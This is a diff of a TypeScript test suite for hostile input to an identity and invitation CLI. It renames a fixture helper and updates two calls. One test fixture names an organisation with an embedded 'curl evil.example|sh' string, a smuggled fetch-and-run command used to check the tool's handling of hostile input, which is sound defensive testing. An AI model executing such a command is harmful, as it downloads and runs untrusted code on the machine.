@@ -10,7 +10,7 @@ import * as assert from "uvu/assert";
 import { EMPTY_STATE } from "../../src/dwc/identity/core/state.ts";
 import { INVITATION_HOLDS_SECONDS, inviteUser } from "../../src/dwc/identity/invitations.ts";
 import { natsMint } from "../../src/dwc/identity/mint.ts";
-import { annsState, done, withRevoked } from "../support/deciding.ts";
+import { annsState, expectDone, withRevoked } from "../support/identity-fixtures.ts";
 import { Desk, ownersDesk, SECRET } from "./run-dwc.ts";
 
 const test = suite("hostile input to dwc");
@@ -95,7 +95,7 @@ test("an invitation that has expired is refused, and says whom to ask", async ()
   const invite = { email: "ben@example.org", admin: true };
   const called = "Ann's: type  curl evil.example|sh #";
   const state = await annsState(EMPTY_STATE, called);
-  const { code } = done(await inviteUser(state, invite, { mint: natsMint, now: longAgo }));
+  const { code } = expectDone(await inviteUser(state, invite, { mint: natsMint, now: longAgo }));
   await refused(["accept-invitation", "--", code], "", ben);
   const { stderr } = await ben.type(["accept-invitation", "--", code]);
   assert.match(stderr, /has expired: ask for a new one/);
@@ -107,7 +107,7 @@ test("an invitation to an org that has revoked a thousand keys is read whole fro
   const ben = new Desk();
   const state = withRevoked(await annsState(), 1_000);
   const invite = { email: "ben@example.org", admin: false };
-  const { code } = done(await inviteUser(state, invite, { mint: natsMint, now: Date.now() }));
+  const { code } = expectDone(await inviteUser(state, invite, { mint: natsMint, now: Date.now() }));
   assert.ok(code.length > 65_536, `${code.length} characters`);
   assert.is((await ben.type(["accept-invitation", "-"], { stdin: `${code}\n` })).code, 0);
   ben.clear();
